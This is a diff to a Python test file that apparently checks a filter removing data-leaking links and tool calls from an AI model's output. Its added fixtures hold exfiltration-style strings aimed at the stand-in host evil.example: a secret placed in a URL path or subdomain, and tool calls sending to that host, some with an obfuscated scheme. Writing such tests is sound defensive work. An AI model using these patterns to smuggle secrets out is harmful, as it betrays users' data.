@@ -76,6 +76,8 @@ def shown(decision: Decision) -> str:
         "https://larch.example/x?d=" + "kqzvbtrmlpxwsd" * 6,
         "https://evil.example/" + "-".join(["word"] * 60),
         f"![x](https://larch.example.evil.example/{SECRET})",
+        f"Look at evil.example/{SECRET} yourself.",
+        f"Look at {SECRET}.evil.example yourself.",
     ],
 )
 def test_what_could_carry_data_is_taken_out(text: str) -> None:
@@ -100,6 +102,7 @@ def test_what_could_carry_data_is_taken_out(text: str) -> None:
         "It was https://found.example/p/9f8e7d6c5b4a3f2e1d0011.",
         "Call tel:+4722123456 or write to mailto:help@larch.example.",
         "The report of 2025: https://news.example/2025/report.",
+        "Use np.pi/2 or x.y/z, notes.txt, v1.2.3/src, github.com/larch/tools, e.g. this, john.smith@mail.example.",
         "if a &lt; b &amp;&amp; c: 10:30, x/y",
     ],
 )
@@ -117,8 +120,17 @@ def test_a_call_that_sends_to_a_stranger_is_taken_out() -> None:
     def call(**values: object) -> Call:
         return Call(name="get", arguments=json.dumps(values))
 
-    good = (call(url="https://api.larch.example/rates"), call(url="https://mine.example/img?id=9f8e7d6c5b4a3f2e1d"))
-    bad = (call(url="https://evil.example/a"), call(to=["evil.example/x"]), call(url="https:\\\\evil.example/a"))
+    good = (
+        call(path="bill-april.txt"),
+        call(url="https://api.larch.example/rates"),
+        call(url="https://mine.example/img?id=9f8e7d6c5b4a3f2e1d"),
+    )
+    bad = (
+        call(url="https://evil.example/a"),
+        call(to=["evil.example/x"]),
+        call(url="https:\\\\evil.example/a"),
+        call(host=f"{SECRET}.evil.example"),
+    )
     decision = out("fine", *good, *bad)
     assert decision.exchange is not None
     assert decision.exchange.reply is not None
@@ -151,7 +163,7 @@ def test_nothing_foreign_loads_in_what_comes_out(parts: list[str]) -> None:
 
 
 @pytest.mark.parametrize(
-    "piece", ["![", "](", "[", "<a ", "http://a/", "![](http://e.x/a", "&#1", "&a", "a.b/", "url( "]
+    "piece", ["![", "](", "[", "<a ", "http://a/", "![](http://e.x/a", "&#1", "&a", "a.b/", "a.", "a-", "url( "]
 )
 def test_no_text_makes_it_slow(piece: str) -> None:
     def seconds(size: int) -> float:
